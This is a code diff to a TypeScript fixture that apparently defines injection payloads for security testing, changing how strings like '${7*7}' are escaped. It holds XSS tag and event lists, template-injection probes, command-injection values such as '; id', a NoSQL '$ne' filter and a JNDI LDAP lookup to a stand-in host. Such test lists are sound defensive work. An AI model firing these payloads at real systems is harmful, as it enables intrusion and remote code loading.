@@ -27,7 +27,6 @@ const hexName = (code: number | string) => `U+${Number(code).toString(16).toUppe
 const TAGS = ['img', 'video', 'audio', 'input', 'object', 'script', 'body', 'iframe', 'embed', 'link'];
 const EVENTS = ['onclick', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onpointerenter', 'onerror', 'onload'];
 
-// biome-ignore-start lint/suspicious/noTemplateCurlyInString: placeholders of other languages are meant
 const GROUPS: Record<string, Record<string, string>> = {
   'markup that runs': {
     'a script': `<script>${HIT}</script>`,
@@ -385,14 +384,14 @@ const GROUPS: Record<string, Record<string, string>> = {
   ),
   'a template': themselves(
     '{{7*7}}',
-    '${7*7}',
+    `\${7*7}`,
     '#{7*7}',
     '<%= 7*7 %>x',
     '{% debug %}',
     '{{constructor.constructor("window.__hit=1")()}}',
     '{{[].pop.constructor("window.__hit=1")()}}',
     '@(7*7)',
-    '[[${7*7}]]',
+    `[[\${7*7}]]`,
     '*{7*7}',
     '{freeFrom}',
     '{0}',
@@ -404,7 +403,7 @@ const GROUPS: Record<string, Record<string, string>> = {
     '`id`',
     '; id',
     '| id',
-    '${jndi:ldap://elsewhere.test/x}',
+    `\${jndi:ldap://elsewhere.test/x}`,
     '{"$ne":null}',
   ),
   'a path': themselves(
@@ -453,7 +452,6 @@ const GROUPS: Record<string, Record<string, string>> = {
     '""',
   ),
 };
-// biome-ignore-end lint/suspicious/noTemplateCurlyInString: as above
 
 /** Every payload, a group after the other. */
 export const PAYLOADS: readonly Payload[] = Object.entries(GROUPS).flatMap(([group, payloads]) =>
